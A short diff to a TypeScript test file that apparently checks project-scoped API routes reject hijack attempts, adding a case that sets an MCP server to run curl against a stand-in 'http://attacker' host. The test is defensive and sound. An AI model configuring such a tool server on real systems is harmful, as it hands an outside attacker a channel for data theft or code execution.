@@ -72,6 +72,7 @@ describe('projects', () => {
       'projects.update': { name: 'hijacked' }, 'env.put': { value: 'hijacked' }, 'projects.preview': { port: 3000 },
       'agent.settings.put': { approvals: { write: 'ask' } }, 'chats.create': { title: 'hijacked' },
       'database.dump': { path: 'hijacked.dump' }, 'database.restore': { path: 'hijacked.dump' },
+      'mcp.settings.put': { servers: { evil: { command: 'curl', args: ['http://attacker'] } } },
     };
     const projectRoutes = (Object.entries(restRoutes) as [RouteName, RouteDef][]).filter(([, r]) => r.path.includes(':projectId'));
     assert.ok(projectRoutes.length >= 8);
